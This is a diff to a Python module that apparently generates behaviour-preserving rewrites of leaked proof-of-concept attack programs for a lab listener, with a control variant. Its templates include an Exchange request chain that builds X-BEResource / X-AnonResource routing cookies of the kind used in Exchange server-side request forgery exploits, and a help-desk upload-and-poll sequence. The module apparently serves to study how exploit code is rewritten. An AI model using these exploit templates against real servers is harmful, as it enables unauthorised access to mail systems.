@@ -7,13 +7,18 @@ that program must keep is what the copy sends, so its constants are filled from 
 copy's own requests, recorded on the listener: per step the path, the query pairs in order and
 the header names as spelt, in order, with their literal values. What depends on the command line
 (cookie, routing header, mailbox, tenant, bodies, lengths) the template computes itself, as
-the original did. The control template alters every one of those values.
+the original did, in the order and with the JSON separators the copy sends. A rewrite that keeps
+behaviour keeps the copy's timeout, retry count, poll count and output indent too: those are
+read from the copy's code, as the attacker reads it. The control template alters every one of
+those wire values (its behaviour constants are the copy's: it changes only what it sends).
 """
 
 from __future__ import annotations
 
 import json
+import re
 import urllib.parse
+from dataclasses import dataclass
 from string import Template
 
 from rewrites.clients import CLIENTS
@@ -55,7 +60,12 @@ import urllib.parse
 $imports
 STEPS = $steps
 BODY_KEYS = $body_keys
+SEPARATORS = $separators
 ALTERED = $control
+TIMEOUT = $timeout
+ATTEMPTS = $attempts
+POLLS = $polls
+INDENT = $indent
 
 $send
 
@@ -87,6 +97,7 @@ def after_default(step, name, part=""):
 
 def body_of(text):
     return (b"alt:" if ALTERED else b"") + text.encode("utf-8")
+
 """
 
 EXCHANGE = """
@@ -96,15 +107,21 @@ class MailChain:
 
     def cookie(self):
         o = self.options
-        routed = urllib.parse.quote(f"{o.target}@{o.domain}" + after_default(0, "cookie", "X-BEResource="), safe="@/~=?")
+        routed = urllib.parse.quote(f"{o.target}@{o.domain}" + $cookie_suffix, safe="@/~=?")
         backend = o.domain if o.domain else "localhost"
-        return "; ".join([f"X-BEResource={routed}", "X-AnonResource=true", f"X-AnonResource-Backend={backend}"])
+        return "; ".join([$cookie_parts])
 
     ${adef}def step(self, index, dynamic=None, query=None, body=None):
         o = self.options
         method = STEPS[index][0]
         headers = headers_for(index, o.host, o.port, dynamic or {}, body)
-        return ${aw}send(o.host, o.port, method, target_for(index, query or {}), headers, body)
+        for attempt in range(ATTEMPTS):
+            try:
+                return ${aw}send(o.host, o.port, method, target_for(index, query or {}), headers, body, timeout=TIMEOUT)
+            except OSError:
+                if attempt + 1 == ATTEMPTS:
+                    raise
+        return 599, b""
 
     ${adef}def run(self):
         o = self.options
@@ -140,7 +157,7 @@ TICKETDESK = """
 def upload_document(user, lines):
     rows = ["line %d for %s" % (n, user) for n in range(1, lines + 1)]
     fields = dict(name=template_name(), owner=user, rows=rows, kind="note")
-    return json.dumps({key: fields[key] for key in BODY_KEYS or fields}, separators=(",", ":"))
+    return json.dumps({key: fields[key] for key in BODY_KEYS or fields}, separators=SEPARATORS)
 
 
 def template_name():
@@ -149,7 +166,7 @@ def template_name():
 
 ${adef}def call(o, index, dynamic=None, query=None, body=None):
     headers = headers_for(index, o.host, o.port, dynamic or {}, body)
-    return ${aw}send(o.host, o.port, STEPS[index][0], target_for(index, query or {}), headers, body)
+    return ${aw}send(o.host, o.port, STEPS[index][0], target_for(index, query or {}), headers, body, timeout=TIMEOUT)
 
 
 ${adef}def start(argv):
@@ -166,18 +183,52 @@ ${adef}def start(argv):
         return {"probe": probe}
     upload, _ = ${aw}call(o, 1, tenant, body=body_of(upload_document(o.user, o.lines)))
     polls = []
-    for index in range(2, len(STEPS)):
+    for index in range(2, 2 + POLLS):
         status, _ = ${aw}call(o, index, dict(tenant, **{"x-poll-round": str(index - 2)}), {"job": "exp-%d" % (index - 2)})
         polls.append(status)
     return {"polls": polls, "probe": probe, "upload": upload}
 """
 
 MAIN = {
-    False: 'if __name__ == "__main__":\n    print(json.dumps(start(sys.argv[1:])))\n',
-    True: 'if __name__ == "__main__":\n    print(json.dumps(asyncio.run(start(sys.argv[1:]))))\n',
+    False: 'if __name__ == "__main__":\n    print(json.dumps(start(sys.argv[1:]), indent=INDENT))\n',
+    True: 'if __name__ == "__main__":\n'
+    "    print(json.dumps(asyncio.run(start(sys.argv[1:])), indent=INDENT))\n",
 }
 
 PROGRAMS = {"exchange": EXCHANGE, "ticketdesk": TICKETDESK}
+
+
+@dataclass(frozen=True, slots=True)
+class Behaviour:
+    """What the copy does beside what it sends, as a rewrite that keeps behaviour keeps it."""
+
+    timeout: float = 10.0
+    """Seconds per request."""
+    attempts: int = 1
+    """Tries per request."""
+    polls: int = 0
+    """Export polls (the help desk's)."""
+    indent: int | None = None
+    """Indent of the printed summary."""
+
+
+def behaviour_of(source: str) -> Behaviour:
+    """The copy's behaviour constants, read from its code as the attacker reads it."""
+
+    def number(pattern: str) -> str | None:
+        found = re.search(pattern, source)
+        return None if found is None else found.group(1)
+
+    timeout = number(r"TIMEOUT_SECONDS = ([\d.]+)")
+    attempts = number(r"MAX_RETRIES = (\d+)")
+    polls = number(r"POLL_ROUNDS = (\d+)")
+    indent = number(r"json\.dumps\(summary, indent=(\d+)")
+    return Behaviour(
+        float(timeout) if timeout else 10.0,
+        int(attempts) if attempts else 1,
+        int(polls) if polls else 0,
+        int(indent) if indent else None,
+    )
 
 
 def program(
@@ -187,14 +238,31 @@ def program(
     *,
     control: bool = False,
     body_keys: list[str] | None = None,
+    separators: tuple[str, str] = (",", ":"),
+    behaviour: Behaviour | None = None,
 ) -> str:
     """The template of `poc` over `client`, filled with `steps` (and the order of the JSON
-    body's keys, as the copy sends them: a rewrite keeps the program's own dict order)."""
+    body's keys and its separators, as the copy sends them: a rewrite keeps the program's own
+    dict order and `json.dumps` call), with the copy's behaviour constants."""
     chosen = CLIENTS[client]
+    kept = behaviour or Behaviour()
+    suffix, order = _cookie(steps, control)
+    parts = {
+        "X-BEResource": 'f"X-BEResource={routed}"',
+        "X-AnonResource": '"X-AnonResource=true"',
+        "X-AnonResource-Backend": 'f"X-AnonResource-Backend={backend}"',
+    }
     values = {
+        "cookie_suffix": repr(suffix),
+        "cookie_parts": ", ".join(parts[name] for name in order if name in parts),
         "imports": chosen.imports,
         "steps": repr(steps),
         "body_keys": repr(body_keys or []),
+        "separators": repr(separators),
+        "timeout": repr(kept.timeout),
+        "attempts": repr(kept.attempts),
+        "polls": repr(kept.polls),
+        "indent": repr(kept.indent),
         "control": repr(control),
         "send": chosen.send,
         "aw": "await " if chosen.asynchronous else "",
@@ -212,10 +280,47 @@ def port_to(client: str, *, control: bool = False) -> object:
         steps = steps_of([split(raw) for raw in sent])
         if control:
             steps = altered(steps)
-        text = program(leak.poc.name, client, steps, control=control, body_keys=_body_keys(sent))
+        text = program(
+            leak.poc.name,
+            client,
+            steps,
+            control=control,
+            body_keys=_body_keys(sent),
+            separators=_separators(sent),
+            behaviour=behaviour_of(leak.source),
+        )
         return Output({f"{leak.poc.name}_{client.replace('.', '_')}.py": text.encode()})
 
     return build
+
+
+def _cookie(steps: list[Step], control: bool) -> tuple[str, list[str]]:
+    """What the exchange copy's routing cookie appends to the command-line backend, and the
+    order of its cookies: a rewrite writes both as the copy sends them."""
+    order = ["X-BEResource", "X-AnonResource", "X-AnonResource-Backend"]
+    value = next((v for k, v in steps[0][3] if k.lower() == "cookie"), "") if steps else ""
+    if value:
+        order = [part.split("=", 1)[0].strip() for part in value.split(";")]
+    if control:
+        return "/alt-cookie", order
+    routed = next((p for p in value.split(";") if p.strip().startswith("X-BEResource=")), "")
+    suffix = urllib.parse.unquote(routed.strip().removeprefix("X-BEResource="))
+    return suffix.removeprefix("localhost@lab.invalid"), order
+
+
+def _separators(sent: list[bytes]) -> tuple[str, str]:
+    """The separators of the first JSON object body the copy sends, as `json.dumps` wrote it."""
+    for raw in sent:
+        body = raw.partition(b"\r\n\r\n")[2]
+        try:
+            document = json.loads(body)
+        except ValueError:
+            continue
+        if isinstance(document, dict):
+            for pair in ((",", ":"), (", ", ": "), (",", ": "), (", ", ":")):
+                if json.dumps(document, separators=pair).encode() == body:
+                    return pair
+    return (",", ":")
 
 
 def _body_keys(sent: list[bytes]) -> list[str]:
